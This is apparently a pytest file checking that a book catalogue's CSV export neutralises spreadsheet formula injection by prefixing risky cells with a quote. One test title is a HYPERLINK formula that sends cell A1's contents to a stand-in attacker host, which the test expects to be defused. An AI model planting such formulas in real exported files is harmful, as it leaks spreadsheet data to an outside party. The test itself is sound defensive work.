"""No CSV file runs anything in whatever program it is opened with."""

import csv
from pathlib import Path
from typing import Any

import pytest

from chalicelib.books.dump_files import write_books_csv
from chalicelib.core.cells import harmless
from tests.books.conftest import a_book


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-x", "'-x"),
        ("\tx", "'\tx"),
        ("-5.5", "-5.5"),
        ("+3", "+3"),
        ("Ana", "Ana"),
        (-1.5, -1.5),
        (None, None),
    ],
)
def test_no_cell_is_a_formula_and_numbers_stay(cell: Any, written: Any) -> None:
    assert harmless(cell) == written


def test_what_a_shop_calls_a_book_is_no_formula_in_the_catalogues_csv(tmp_path: Path) -> None:
    title = '=HYPERLINK("https://ladrao.example/"&A1)'
    write_books_csv([a_book(1, title=title)], tmp_path / "livros.csv")
    with (tmp_path / "livros.csv").open(encoding="utf-8", newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["title"] == f"'{title}"
